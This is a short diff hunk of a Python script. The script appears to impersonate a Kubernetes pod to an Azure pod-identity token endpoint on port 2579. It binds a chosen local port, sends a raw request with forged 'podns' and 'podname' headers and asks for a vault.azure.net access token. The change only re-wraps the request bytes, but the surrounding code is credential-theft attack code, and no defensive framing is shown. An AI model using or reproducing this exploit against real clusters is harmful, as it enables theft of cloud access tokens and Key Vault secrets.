@@ -76,8 +76,8 @@ def ask(source, to, port, words):
     s.setsockopt(socket.SOL_IP, 51, struct.pack("=I", port << 16 | port))  # IP_LOCAL_PORT_RANGE
     s.bind((source, 0))
     s.connect((to, 2579))
-    s.sendall(b"GET /host/token/?resource=https://vault.azure.net HTTP/1.1\\r\\nHost: localhost\\r\\n"
-              b"podns: default\\r\\npodname: mounts\\r\\n\\r\\n")
+    s.sendall(b"GET /host/token/?resource=https://vault.azure.net HTTP/1.1\\r\\n"
+              b"Host: localhost\\r\\npodns: default\\r\\npodname: mounts\\r\\n\\r\\n")
     words.append([source, to, s.getsockname()[1] == port, s.recv(65536).split()[1].decode()])
     return s
 said, port, meeting = [], 43579, ("127.0.0.1", 23578)
